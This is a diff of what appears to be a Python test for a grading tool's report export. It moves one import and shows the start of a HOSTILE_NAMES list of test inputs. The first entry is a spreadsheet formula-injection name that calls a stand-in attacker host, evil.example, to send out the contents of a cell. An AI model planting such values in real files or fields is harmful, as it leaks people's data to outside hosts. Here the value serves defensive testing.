@@ -6,9 +6,9 @@ from collections.abc import Iterable, Sequence
 from typing import Any
 
 from grader.records.attempt import Student
+from grader.records.finding_report import FindingSummary
 from grader.records.gradebook import ClassReport, Row
 from grader.records.graded_with import DeckInfo
-from grader.records.report import FindingSummary
 
 HOSTILE_NAMES = (
     '=HYPERLINK("http://evil.example/?"&A1,"Doe, Jane")',
